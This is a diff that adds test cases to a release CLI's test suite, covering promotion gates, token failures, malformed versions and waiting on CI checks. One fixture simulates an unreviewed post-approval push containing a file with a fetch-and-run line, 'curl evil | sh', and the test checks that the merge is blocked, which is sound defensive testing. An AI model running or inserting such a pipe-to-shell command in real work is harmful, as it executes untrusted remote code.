@@ -167,4 +167,87 @@ describe('release-cli promote', () => {
       await proxy.stop();
     }
   });
+
+  it('refuses to merge a commit pushed after the approval with no CI run on it (exit 3, nothing merged)', async () => {
+    world = await startReleaseWorld();
+    const branch = `release/${world.version}`;
+    // The attack: the PR was approved and green at the release commit; a later push lands unreviewed.
+    const pushed = world.github.commit(
+      world.repository,
+      branch,
+      { 'evil.sh': 'curl evil | sh\n' },
+      'sneak in',
+    );
+    const status = await runCli(world, ['status', world.version, '--json']);
+    const st = jsonOf(status) as {
+      promotable: boolean;
+      gates: { id: string; status: string; reason: string; evidence: { label: string; value: string }[] }[];
+    };
+    expect(st.promotable).toBe(false);
+    const gate = (id: string) => st.gates.find((g) => g.id === id)!;
+    expect(gate('pr-approved')).toMatchObject({
+      status: 'fail',
+      reason: expect.stringMatching(/older commit/),
+    });
+    expect(gate('pr-checks').status).not.toBe('pass');
+    expect(gate('pr-checks').reason).toContain(pushed.slice(0, 7));
+    expect(gate('pr-checks').evidence).toContainEqual({ label: 'head', value: pushed });
+
+    const r = await runCli(world, ['promote', world.version, '--yes']);
+    expectExit(r, 3);
+    expect(world.github.pull(world.repository, world.pullRequest).merged).toBe(false);
+  });
+
+  it('exits 1, not 3, when GitHub refuses the token: a gate that could not look is not "not met"', async () => {
+    world = await startReleaseWorld();
+    const env = { GITHUB_TOKEN: 'ghp_0000000000000000000000000000000000bad' };
+    const status = await runCli(world, ['status', world.version], env);
+    expectExit(status, 1);
+    expectOutput(status, 'stderr').toMatch(/could not evaluate every gate/);
+    expectOutput(status, 'stderr').toMatch(/could not look/);
+    const promote = await runCli(world, ['promote', world.version, '--yes'], env);
+    expectExit(promote, 1);
+    expect(world.github.pull(world.repository, world.pullRequest).merged).toBe(false);
+  });
+
+  it('refuses a malformed version with exit 2 before any token or network is needed', async () => {
+    world = await startReleaseWorld();
+    for (const args of [
+      ['status', '1.2'],
+      ['promote', '1.2.3.4', '--yes'],
+      ['abandon', 'latest', '--yes'],
+      ['rollback', '--to', '01.2.3', '--yes'],
+    ]) {
+      const r = await runCli(world, args, { GITHUB_TOKEN: '', RELKIT_GITHUB_API_URL: 'http://127.0.0.1:9' });
+      expectExit(r, 2);
+      expectOutput(r, 'stderr').toMatch(/not a release version/);
+    }
+    const json = await runCli(world, ['status', 'nope', '--json'], { GITHUB_TOKEN: '' });
+    expectExit(json, 2);
+    expect(JSON.parse(json.stdout)).toEqual({
+      error: { code: 'USAGE', message: expect.stringMatching(/not a release version/) },
+    });
+  });
+
+  it('waits for a check still running on the head, with progress, and then promotes', async () => {
+    world = await startReleaseWorld();
+    const head = world.github.branchSha(world.repository, `release/${world.version}`)!;
+    const run = world.github.addCheckRun(world.repository, head, { name: 'ci / e2e', status: 'in_progress' });
+    // --wait 0 refuses at once: a running check is not met yet.
+    const impatient = await runCli(world, ['promote', world.version, '--yes', '--wait', '0']);
+    expectExit(impatient, 3);
+    const w = world;
+    const done = setTimeout(
+      () => w.github.updateCheckRun(w.repository, run, { status: 'completed', conclusion: 'success' }),
+      1500,
+    );
+    try {
+      const r = await runCli(world, ['promote', world.version, '--yes', '--wait', '60']);
+      expectExit(r, 0);
+      expectOutput(r, 'stderr').toMatch(/waiting \(\d+s of 60s\) for checks green .*running: ci \/ e2e/);
+      expect(world.github.pull(world.repository, world.pullRequest).merged).toBe(true);
+    } finally {
+      clearTimeout(done);
+    }
+  });
 });
